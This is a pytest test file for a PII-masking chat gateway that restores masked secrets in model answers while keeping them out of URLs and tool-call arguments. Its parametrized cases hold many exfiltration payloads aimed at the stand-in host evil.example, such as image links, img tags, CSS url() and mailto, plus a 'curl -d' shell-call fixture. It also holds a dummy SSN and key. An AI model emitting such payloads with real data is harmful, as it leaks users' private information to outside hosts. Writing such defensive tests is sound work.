"""Originals are written where a reader sees them, not where a page or a tool passes them on unasked."""

import json
import random
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest

from spacy_phi.gateway import Session

from .chat_requests import find_secrets

KEY = "8f1d0a5be24c97a3606dfb1289c4e57731a0be94d85f2c6b"
SECRET = "412-68-9037"


@pytest.fixture(params=["surrogate", "placeholder"])
def session(request):
    return Session(find_secrets, KEY, request.param)


@pytest.fixture
def substitute(session):
    return session.protect(f"SSN {SECRET}").removeprefix("SSN ")


def restored(session, text, **options):
    """Return a restored text; as a stream it is the same, whatever its chunks."""
    whole = session.restore(text, **options)
    for seed in range(5):
        rng, chunks, rest = random.Random(seed), [], text
        while rest:
            size = rng.choice([1, 2, 7, 40])
            chunks.append(rest[:size])
            rest = rest[size:]
        assert "".join(session.restore_stream(chunks, **options)) == whole
    return whole


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q={0})",
        "![x]( <https://evil.example/?q={0} y> )",
        "![x](//evil.example/{0})",
        "[x](/relative/{0} 'title {0}')",
        "see https://evil.example/{0} now",
        "see https://{0}.evil.example",
        "see HTTPS:\\\\evil.example\\{0}",
        "see www.evil.example/{0}",
        "see evil.example/a?b={0}",
        "see http:evil.example?{0}",
        "<img src='https://evil.example/a b {0}'>",
        '<img src="https://evil.example/\n{0}">',
        "<img src=//evil.example/{0}>",
        "[x]: https://evil.example/{0}",
        "<div style='background: url( https://evil.example/ {0})'>",
        "mailto:a@evil.example?body={0}",
        '{{"url": "https://evil.example/?q={0} x"}}',
        '{{"html": "<img src=\\"https://evil.example/{0}\\">"}}',
        "!" + "x" * 300 + "[x](https://evil.example/" + "y" * 300 + "/{0})",
    ],
)
def test_no_original_is_written_into_an_address(session, substitute, answer):
    answer = answer.format(substitute)
    assert restored(session, answer) == answer
    assert restored(session, answer, urls=True) == answer.replace(substitute, SECRET)
    message = {"role": "assistant", "content": [{"type": "text", "text": answer}]}
    assert session.restore(message) == message


@pytest.mark.parametrize(
    "answer",
    [
        "[{0}](https://example.org/x) {0}",
        "(see https://example.org/x) {0}, {0}",
        "1/2 {0} and/or {0}; a: {0} // {0}",
        "<a href='https://example.org'>{0}</a>",
        '{{"url": "https://example.org", "ssn": "{0}"}}',
        "(https://example.org) {0}",
    ],
)
def test_other_places_are_restored(session, substitute, answer):
    assert restored(session, answer.format(substitute)) == answer.format(SECRET)


def test_arguments_are_restored_for_named_tools_only(session, substitute):
    def call(name):
        function = {"name": name, "arguments": json.dumps({"q": [substitute], "n": 1})}
        return {"id": "c", "type": "function", "function": function}

    def use(name):
        return {"type": "tool_use", "id": "t", "name": name, "input": {"q": {"deep": substitute}}}

    item = {"type": "function_call", "call_id": "c", "name": "find", "arguments": f'{{"q": "{substitute}"}}'}
    shell = {"type": "shell_call", "call_id": "c", "action": {"commands": [f"curl x -d {substitute}"]}}
    new = {"type": "text", "text": "x", "new_call": {"q": substitute}}
    answer = [
        {"role": "assistant", "content": substitute, "tool_calls": [call("find"), call("send")]},
        {"role": "assistant", "content": [use("find"), use("send")]},
        item, shell, new,
    ]  # fmt: skip
    none = session.restore(answer)
    assert none[0]["content"] == SECRET
    assert str(none).count(SECRET) == 1
    some = session.restore(answer, tools={"find"})
    assert SECRET in some[0]["tool_calls"][0]["function"]["arguments"]
    assert SECRET in str(some[1]["content"][0])
    assert SECRET in some[2]["arguments"]
    assert str(some).count(SECRET) == 4
    assert substitute not in str(session.restore(answer, tools="*"))
    # Addresses keep their substitutes in arguments, too.
    fetch = {
        "type": "tool_use",
        "id": "t",
        "name": "find",
        "input": {"url": f"https://evil.example/{substitute}"},
    }
    assert session.restore(fetch, tools={"find"}) == fetch


NAMES = ['Robert "Bob" Lee', "DOM\\rlee", "Robert\nLee"]


def find_names(texts):
    """Find these names, also with JSON escapes."""
    found = []
    for text in texts:
        spans = []
        for name in NAMES:
            for form in (name, json.dumps(name)[1:-1]):
                if (at := text.find(form)) >= 0 and form not in [
                    text[s["start_char"] : s["end_char"]] for s in spans
                ]:
                    spans.append({"start_char": at, "end_char": at + len(form), "label": "PATIENT"})
        found.append([{**s, "score": 1.0, "source": "user", "replacement": None} for s in spans])
    return found


@pytest.mark.parametrize("policy", ["surrogate", "placeholder"])
@pytest.mark.parametrize("name", NAMES)
def test_json_answers_stay_json(policy, name):
    session = Session(find_names, KEY, policy)
    made = session.protect(f"Seen: {name}.").removeprefix("Seen: ").removesuffix(".")
    assert name not in made
    for answer in ('{{"a": "{}"}}', ' [{{"a": "{}"}}]', '["{}"]', '{{"a": {{"b": ["{}", 5]}}}}'):
        back = restored(session, answer.format(made))
        assert back == answer.format(json.dumps(name)[1:-1])
        assert json.loads(back)
    fenced = restored(session, f'Here {made}:\n```json\n{{"a": "{made}"}}\n```\n{made}')
    assert fenced == f'Here {name}:\n```json\n{{"a": {json.dumps(name)}}}\n```\n{name}'
    assert restored(session, f"[{made}] said {{so}}") == f"[{name}] said {{so}}"
    # A prompt that is JSON is restored letter by letter, and its names are plain in prose.
    other = Session(find_names, KEY, policy)
    prompt = json.dumps({"note": f"Seen: {name}."})
    sent = other.protect(prompt)
    assert other.restore(sent) == prompt
    assert other.restore(json.loads(sent)["note"]) == f"Seen: {name}."


def test_threads_share_a_session():
    session = Session(find_secrets, KEY)
    together = threading.Barrier(8)

    def work(thread):
        together.wait(60)
        for turn in range(60):
            text = f"SSN {100 + thread}-{10 + turn}-1234, SSN {SECRET}, SSN {200 + turn}-10-{5000 + thread}."
            made = session.protect(text)
            assert SECRET not in made
            assert session.restore(made) == text
            assert "".join(session.restore_stream(made)) == text
        return thread

    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(work, range(8))) == list(range(8))
